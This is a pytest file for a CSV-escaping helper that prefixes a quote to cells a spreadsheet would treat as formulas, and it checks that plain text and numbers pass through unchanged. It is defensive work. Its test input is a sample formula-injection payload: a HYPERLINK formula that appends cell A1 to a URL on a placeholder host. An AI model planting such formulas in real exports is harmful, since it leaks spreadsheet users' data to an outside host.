"""The one rule every CSV writer follows: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

from decimal import Decimal

import pytest

from ctip.model.csvsafe import safe_cell, safe_row, safe_text


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_leading_text_gets_a_leading_quote(lead: str) -> None:
    text = f'{lead}HYPERLINK("http://x.example/?"&A1,"open")'
    assert safe_text(text) == "'" + text


def test_ordinary_text_is_left_alone() -> None:
    assert safe_text("Hoshine Silicon = HSIL") == "Hoshine Silicon = HSIL"
    assert safe_text("'quoted") == "'quoted"
    assert safe_text("") == ""


def test_numbers_stay_numbers_even_when_negative() -> None:
    assert safe_cell(-12.5) == -12.5 and safe_cell(Decimal("-3.10")) == Decimal("-3.10")
    assert safe_cell(-4) == -4 and safe_cell(None) is None
    assert safe_row(["-4", -4, "@SUM(A1)"]) == ["'-4", -4, "'@SUM(A1)"]
